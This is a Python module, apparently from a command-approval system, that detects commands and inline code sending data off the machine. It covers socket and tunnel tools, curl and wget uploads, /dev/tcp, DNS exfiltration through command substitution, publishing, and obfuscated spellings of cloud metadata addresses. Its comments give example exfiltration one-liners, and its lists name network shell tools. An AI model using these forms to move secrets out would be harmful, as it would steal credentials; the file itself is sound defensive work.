"""What sends data off the machine: uploads, sockets, remote copies, mail, publishing, inline code
that opens a connection with data, and cloud metadata addresses (the instance's credentials).

Each function answers `(rule, reason)` or None; rules.py asks the person every time ("outside:").
Every pattern here runs in linear time: plain alternations, no back-references, no nested
quantifiers, and no unanchored greedy runs that restart at every position.
"""

from __future__ import annotations

import ipaddress
import re
import socket
import unicodedata
import urllib.parse

from atlas.trust.command_words import arguments
from atlas.trust.keyed_regex import KeyedAlternation, window
from atlas.trust.parser.normalise import SUBSTITUTION, Part
from atlas.trust.senders import curl_reads, is_dns_lookup, more_sends

Found = tuple[str, str]

SOCKET_TOOLS = {"nc", "ncat", "netcat", "socat", "telnet", "ssh-copy-id", "sshpass", "pwncat",
                "pwncat-cs", "sshuttle", "cryptcat", "autossh", "dbclient", "plink", "ngrok",
                "cloudflared", "localtunnel", "lt", "bore", "frpc", "chisel", "pagekite",
                "mosh", "ftp", "lftp", "tftp", "sftp", "scp", "smbclient", "websocat", "wscat"}  # fmt: skip
MAIL_TOOLS = {"mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "s-nail", "neomutt"}
PUBLISH = {
    "npm": {"publish"}, "yarn": {"publish"}, "pnpm": {"publish"}, "twine": {"upload"},
    "cargo": {"publish"}, "gem": {"push"}, "docker": {"push"}, "podman": {"push"},
    "uv": {"publish"}, "poetry": {"publish"}, "flit": {"publish"}, "helm": {"push"},
    "git": {"send-email"},
}  # fmt: skip
WRITE_METHODS = {"POST", "PUT", "PATCH", "DELETE"}
# curl's short options that take a value (the rest of a cluster, or the next word, is the value).
CURL_VALUED = set("AbcCdDeEFHKmoQrtTuUwxXyYzP")
CURL_SENDS = {"d", "F", "T"}
CURL_LONG_SENDS = ("--data", "--form", "--upload-file", "--json", "--post301")
WGET_SENDS = ("--post-data", "--post-file", "--body-data", "--body-file")
HTTPIE = {"http", "https", "xh", "xhs"}
# Tools that put their arguments on the wire (URL, headers, a DNS name): a command's output
# spliced into one (`curl https://x/$(cat key)`, `dig $(cat key).x.example`) is sent out.
CARRIERS = {"curl", "wget", "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute",
            "whois", "aria2c", "lynx", "w3m", "links", "elinks", "curlie", "xh", *HTTPIE}  # fmt: skip
URL_CARRIERS = {"git", "pip", "pip3", "npm", "go", "docker", "podman", "uv", "cargo", "gem"}
# Backup tools given a remote repository (`sftp:`, `ssh://`, `s3:`, `rclone:`, `b2:`, `rest:`).
BACKUP_TOOLS = {"restic", "borg", "duplicity", "rdiff-backup", "kopia", "duplicacy", "bup"}
REMOTE_REPOSITORY = ("sftp:", "ssh://", "s3:", "rclone:", "b2:", "rest:", "azure:", "gs:",
                     "swift:", "ftp://", "scp://", "webdav", "boto3+s3://", "gdrive:")  # fmt: skip
CLOUD_READS = ("ls", "list", "describe", "get", "help", "--help", "--version", "version",
               "lsd", "lsf", "lsl", "size", "cat", "show", "info", "whoami")  # fmt: skip
# Infrastructure tools whose these subcommands act on a remote cluster or cloud account.
REMOTE_CHANGERS = {
    "kubectl": {"apply", "create", "delete", "edit", "patch", "replace", "scale", "cp", "exec",
                "run", "rollout", "set", "label", "annotate", "drain", "cordon", "expose"},
    "terraform": {"apply", "destroy", "import", "taint", "untaint"},
    "tofu": {"apply", "destroy", "import", "taint", "untaint"},
    "helm": {"install", "upgrade", "uninstall", "delete", "rollback", "push"},
    "pulumi": {"up", "destroy", "import", "refresh"},
}  # fmt: skip
CLOUD_CLIS = {"aws", "gsutil", "rclone", "az", "s3cmd", "azcopy"}

METADATA_NAMES = {"metadata.google.internal", "metadata", "instance-data",
                  "instance-data.ec2.internal", "metadata.azure.com", "metadata.packet.net"}  # fmt: skip
METADATA_V6 = {ipaddress.ip_address("fd00:ec2::254")}
METADATA_V4 = {ipaddress.ip_address("100.100.100.200"), ipaddress.ip_address("192.0.0.192")}
LINK_LOCAL_V4 = ipaddress.ip_network("169.254.0.0/16")
# NAT64 (well-known and RFC 8215 local-use): the last 32 bits are the IPv4 address reached.
NAT64_PREFIXES = (ipaddress.ip_network("64:ff9b::/96"), ipaddress.ip_network("64:ff9b:1::/48"))
# Dots an IDN-aware client reads as ".": ideographic, full-width (NFKC folds it) and half-width.
DOTS = str.maketrans({"\u3002": ".", "\uff61": ".", "\uff0e": "."})
HOST_TOKEN = re.compile(r"[0-9A-Za-z.:\[\]%_-]+")
# An address spelled inside a name (`169.254.169.254.nip.io`, `169-254-169-254.sslip.io`): the
# wildcard DNS services answer with it. Bounded pieces, so linear.
EMBEDDED_V4 = re.compile(
    r"(?<![0-9])([0-9]{1,3}[.-][0-9]{1,3}[.-][0-9]{1,3}[.-][0-9]{1,3})(?![0-9])"
)

# Inline code (any language) that opens a connection and sends something. Each branch runs only
# on code holding its keyword (keyed_regex.py): one alternation of ~35 branches cost ~1 µs per
# character of any code, 13–30 ms (0.22 s loaded) on a 16,000-character line of `-`.
CODE_SENDS = KeyedAlternation(
    [
        ("requests.", r"\brequests\.(?:post|put|patch|delete|request)\b"),
        ("httpx.", r"\bhttpx\.(?:post|put|patch|delete|request)\b"),
        (".post", r"\.post\s*\("),
        ("urlopen", window(r"\burlopen\s*\(", 200, r"\bdata\b", stop=r")\n")),
        ("request", window(r"\bRequest\s*\(", 300, r"\bdata\s*=", stop=r")\n")),
        ("method", r"\bmethod\s*[=:]\s*['\"]?(?:post|put|patch|delete)\b"),
        ("http.client", r"\bhttp\.client\b"),
        ("httplib", r"\bhttplib\b"),
        ("socket.", r"\bsocket\.(?:socket|create_connection)\b"),
        (".send", r"\.send(?:all|to)\s*\("),
        ("smtplib", r"\bsmtplib\b"),
        ("ftplib", r"\bftplib\b"),
        ("paramiko", r"\bparamiko\b"),
        ("io::socket", r"\bIO::Socket\b"),
        ("lwp::useragent", r"\bLWP::UserAgent\b"),
        ("http::tiny", r"\bHTTP::Tiny\b"),
        ("mojo::useragent", r"\bMojo::UserAgent\b"),
        ("post_form", r"\bpost_form\b"),
        ("net::", r"\bNet::(?:HTTP|SMTP|FTP)"),
        ("tcpsocket", r"\bTCPSocket\b"),
        ("udpsocket", r"\bUDPSocket\b"),
        ("fsockopen", r"\bfsockopen\b"),
        ("stream_socket_client", r"\bstream_socket_client\b"),
        ("curl_init", r"\bcurl_init\b"),
        ("net.", r"\bnet\.(?:connect|createConnection|Socket)\b"),
        ("request", r"\bhttps?\.request\b"),
        ("dgram", r"\bdgram\b"),
        ("xmlhttprequest", r"\bXMLHttpRequest\b"),
        ("deno.connect", r"\bDeno\.connect\b"),
        ("bun.connect", r"\bBun\.connect\b"),
        ("socket.http", r"\bsocket\.http\b"),
        ("/inet", r"/inet\d?/(?:tcp|udp)/"),
        ("fetch", window(r"\bfetch\s*\(", 300, r"\bbody\b", stop=r")\n")),
    ],
    re.IGNORECASE,
)


def sends_out(part: Part) -> Found | None:
    """Why running this part sends data or files off the machine, or None."""
    head, words = part.head, part.words
    if head in SOCKET_TOOLS or (head == "openssl" and words[1:2] in (["s_client"], ["s_time"])):
        return "socket", f"{head} talks to another machine directly"
    if head in MAIL_TOOLS:
        return "mail", f"{head} sends mail"
    if any(w.startswith(("/dev/tcp/", "/dev/udp/")) for w in words):
        return "socket", "opens a network connection through /dev/tcp"
    if head in BACKUP_TOOLS and any(REMOTE_REPOSITORY_RE.search(w) for w in words[1:]):
        return "backup", f"{head} copies to a remote repository"
    if head == "git" and (reason := _git_elsewhere(words)):
        return "git", reason
    if head == "ssh" and _ssh_destination(words):
        return "ssh", f"ssh to {_ssh_destination(words)} runs on, or sends to, another machine"
    if head == "rsync" and any(_remote(w) for w in arguments(part)):
        return "rsync", "rsync copies to or from a remote host"
    if (head in CARRIERS or is_dns_lookup(part)) and any(SUBSTITUTION in w for w in words[1:]):
        return "upload", f"{head} puts a command's output into what it sends"
    if head in URL_CARRIERS and any(SUBSTITUTION in w and ("://" in w or "@" in w) for w in words):
        return "upload", f"{head} puts a command's output into an address it reaches"
    if head in CARRIERS and {"xargs", "parallel"} & set(part.wrappers):
        return "upload", f"{head} puts what it is piped into what it sends"
    if head in ("curl", "wget", *HTTPIE) and _only_loopback(arguments(part)):
        return None  # a local server (the sandbox has its own loopback): not off the machine
    if head == "curl" and (reason := _curl_sends(words) or curl_reads(words)):
        return "upload", reason
    if head == "wget" and (reason := _wget_sends(words)):
        return "upload", reason
    if head in HTTPIE and (reason := _httpie_sends(arguments(part))):
        return "upload", reason
    args = arguments(part)
    if head in PUBLISH and args[:1] and args[0] in PUBLISH[head]:
        return "publish", f"{head} {args[0]} sends a package or image out"
    if head in CLOUD_CLIS and not _cloud_reads(args):
        return "cloud", f"{head} can copy data to, or change, cloud storage"
    if head in REMOTE_CHANGERS and args[:1] and args[0] in REMOTE_CHANGERS[head]:
        return "cloud", f"{head} {args[0]} changes remote resources or copies data to them"
    return more_sends(part)


LOOPBACK_NAMES = {"localhost", "ip6-localhost", "0.0.0.0"}


def _only_loopback(args: list[str]) -> bool:
    """True when every URL-like argument names this machine (localhost, 127.x, [::1])."""
    hosts = [_host_after(a.lower(), a.find("://") + 3) if "://" in a else "" for a in args]
    hosts = [h for h in hosts if h]
    if not hosts:
        named = [
            a
            for a in args
            if ("." in a or ":" in a) and " " not in a and not a.startswith(("@", "{", "["))
        ]
        bare = [a.lower().split("/", 1)[0].rsplit(":", 1)[0] for a in named]
        hosts = [h for h in bare if h]
    return bool(hosts) and all(_loopback(h) for h in hosts)


def _loopback(host: str) -> bool:
    host = host.strip("[]")
    if host in LOOPBACK_NAMES or host.endswith(".localhost"):
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def _ssh_destination(words: list[str]) -> str | None:
    valued = set("BbcDEeFIiJLlmOoPpQRSWw")
    rest = words[1:]
    while rest and rest[0].startswith("-") and len(rest[0]) > 1:
        option = rest.pop(0)
        if option == "--":
            break
        cluster = option[1:]
        for index, letter in enumerate(cluster):
            if letter in valued:
                if index == len(cluster) - 1 and rest:
                    rest.pop(0)  # the value is the next word
                break
    return rest[0] if rest else None


REMOTE_REPOSITORY_RE = re.compile(
    "(?:^|[=@])(?:" + "|".join(re.escape(p) for p in REMOTE_REPOSITORY) + ")"
)


def _git_elsewhere(words: list[str]) -> str | None:
    """`git push URL`, `git push --repo=URL`: a push to a place given on the line (a named
    remote such as origin is the project's own)."""
    rest = words[1:]
    while rest and rest[0].startswith("-"):  # git -C dir, -c key=value
        rest = rest[2:] if rest[0] in ("-C", "-c", "--git-dir", "--work-tree") else rest[1:]
    if rest[:1] == ["push"]:
        given = [w.split("=", 1)[1] for w in rest[1:] if w.startswith("--repo=")]
        operands = [w for w in rest[1:] if not w.startswith("-")]
        for url in given + operands[:1]:  # the repository comes first; refspecs follow
            if ("://" in url and not url.startswith("file:")) or _remote(url):
                return f"git push sends commits to {url}"
    return None


def _remote(word: str) -> bool:
    """`host:path`, `user@host:path`, `host::module` or `rsync://…` (a colon before any slash)."""
    if word.startswith("rsync://"):
        return True
    colon = word.find(":")
    slash = word.find("/")
    return colon > 0 and (slash == -1 or colon < slash)


def _curl_sends(words: list[str]) -> str | None:
    for index, word in enumerate(words[1:], start=1):
        following = words[index + 1] if index + 1 < len(words) else ""
        if word.startswith(CURL_LONG_SENDS):
            return f"curl {word.split('=', 1)[0]} sends data"
        method = None
        if word in ("-X", "--request"):
            method = following
        elif word.startswith("--request="):
            method = word[len("--request=") :]
        elif word.startswith("-X") and len(word) > 2:
            method = word[2:]
        if method is not None and method.upper() in WRITE_METHODS:
            return f"curl -X {method.upper()} changes something remote"
        if word == "-K" or word.startswith("--config"):
            return "curl reads its options (perhaps data to send) from a file"
        if word.startswith("-") and not word.startswith("--"):  # `-sSd`, `-d@f`, `-d-x`
            for letter in word[1:]:
                if letter in CURL_SENDS:
                    return f"curl -{letter} sends data"
                if letter in CURL_VALUED:
                    break
    return None


def _wget_sends(words: list[str]) -> str | None:
    for index, word in enumerate(words):
        if word.startswith(WGET_SENDS):
            return f"wget {word.split('=', 1)[0]} sends data"
        if word.startswith("--method"):
            following = words[index + 1] if index + 1 < len(words) else ""
            method = word.split("=", 1)[1] if "=" in word else following
            if method.upper() in WRITE_METHODS:
                return f"wget --method {method.upper()} changes something remote"
    return None


def _httpie_sends(args: list[str]) -> str | None:
    if args and args[0].upper() in WRITE_METHODS:
        return f"{args[0].upper()} request"
    for item in args[1:]:
        if "=" in item or "@" in item:
            return "sends request data"
    return None


def _cloud_reads(args: list[str]) -> bool:
    if not args:
        return True
    verbs = args[:3]
    return any(v == r or v.startswith(r + "-") for v in verbs for r in CLOUD_READS) and not any(
        w in ("cp", "mv", "sync", "copy", "move", "rm", "delete", "put", "upload") for w in args
    )


# A network call, and something read from a file or the environment, in the same code: what was
# read may ride in the URL, a header or the query (`urlopen('https://x/?' + open(k).read())`).
NETWORK_CALL = re.compile(
    r"\burlopen\b|\brequests\.|\bhttpx\.|\bhttps?\.get\b|\bfetch\s*\(|\burllib\b|\bsocket\b"
    r"|\bNet::HTTP\b|\bLWP\b|\bopen-uri\b|\bURI\.open\b|\bcurl_init\b|\baiohttp\b"
    r"|\bfile_get_contents\s*\(\s*['\"]https?:|\brequire\s*\(\s*['\"](?:node:)?(?:https?|net|tls|dgram)['\"]",
    re.IGNORECASE,
)
READS_LOCAL = KeyedAlternation(
    [
        ("open", r"\bopen\s*\("),
        ("read_", r"\bread_(?:text|bytes)\b"),
        ("readfile", r"readFileSync|\breadFile\b"),
        ("file.read", r"\bFile\.read\b"),
        ("slurp", r"\bslurp\b"),
        ("os.environ", r"\bos\.environ\b"),
        ("getenv", r"\bgetenv\b"),
        ("process.env", r"\bprocess\.env\b"),
        ("env[", r"\bENV\["),
        ("file_get_contents", r"\bfile_get_contents\s*\(\s*['\"][^h]"),
        ("subprocess", r"\bsubprocess\b"),
        ("os.popen", r"\bos\.popen\b"),
        ("execsync", r"\bexecSync\b"),
    ],
    re.IGNORECASE,
)
KEYED_METHOD = re.compile(r"['\"]method['\"]\s*(?:=>|:)\s*['\"](?:post|put|patch|delete)\b", re.I)


def code_sends(code: str) -> Found | None:
    """Inline code (python, node, perl, ruby, php, lua, awk…) that connects and sends data."""
    match = CODE_SENDS.search(code) or KEYED_METHOD.search(code)
    if match:
        return "code-sends", f"the code opens a connection with data ({match.group(0).strip()})"
    network = NETWORK_CALL.search(code)
    local = READS_LOCAL.search(code) if network else None
    if network and local:
        found = f"{network.group(0).strip()} … {local.group(0).strip()}"
        return "code-sends", f"the code reads local data and opens a connection ({found})"
    return None


# ---------------------------------------------------------------- cloud metadata


def metadata_address(text: str) -> str | None:
    """A cloud metadata address named anywhere in `text` (any spelling a client would accept)."""
    text = unicodedata.normalize("NFKC", text).translate(DOTS)
    if "%" in text:  # `http://%31%36%39.254.169.254/`: a client decodes the host first
        text = text + " " + urllib.parse.unquote(text[:100_000])
    lowered = text.lower()
    for marker in ("://", "@"):
        start = lowered.find(marker)
        while start != -1:
            host = _host_after(lowered, start + len(marker))
            if host in METADATA_NAMES or _metadata_ip(host):
                return host
            start = lowered.find(marker, start + 1)
    for match in EMBEDDED_V4.finditer(lowered):
        if _metadata_ip(match.group(1).replace("-", ".")):
            return match.group(1)
    names = METADATA_NAMES - {"metadata"}  # the bare name counts only as a URL's host
    for match in HOST_TOKEN.finditer(lowered):
        token = match.group(0)
        if len(token) > 64 or not (token[0].isdigit() or "." in token or ":" in token):
            continue
        if token.strip(".") in names:
            return token.strip(".")
        if not any(char.isdigit() for char in token):
            continue
        for candidate in _host_candidates(token):
            if _metadata_ip(candidate):
                return candidate
    return None


def _host_after(text: str, start: int) -> str:
    end = start
    while end < len(text) and text[end] not in "/ \t\n'\"?#\\;|&)":
        end += 1
    host = text[start:end].rsplit("@", 1)[-1]
    if host.startswith("["):
        return host[1:].split("]", 1)[0]
    return host.rsplit(":", 1)[0] if host.count(":") == 1 else host


def _host_candidates(token: str) -> list[str]:
    token = token.strip(".:")
    candidates = [token, token.strip("[]")]
    if "]" in token:
        candidates.append(token.split("]", 1)[0].lstrip("["))
    if token.count(":") == 1:
        candidates.append(token.split(":", 1)[0])
    return candidates


def _metadata_ip(host: str) -> bool:
    host = host.strip("[]").rstrip(".")
    if not host or len(host) > 64:
        return False
    try:
        address = ipaddress.ip_address(host.split("%", 1)[0])
    except ValueError:
        if not re.fullmatch(r"(?:0x[0-9a-f]+|[0-9]+)(?:\.(?:0x[0-9a-f]+|[0-9]+)){0,3}", host):
            return False
        try:  # 2852039166, 0xa9fea9fe, 0251.0376.0251.0376, 169.254.43518: inet_aton's forms
            address = ipaddress.ip_address(socket.inet_aton(host))
        except (OSError, ValueError):
            return False
    if isinstance(address, ipaddress.IPv6Address):
        if address in METADATA_V6:
            return True
        mapped = address.ipv4_mapped
        if mapped is None and any(address in prefix for prefix in NAT64_PREFIXES):
            mapped = ipaddress.IPv4Address(int(address) & 0xFFFFFFFF)
        if mapped is None:
            return False
        address = mapped
    return address in LINK_LOCAL_V4 or address in METADATA_V4
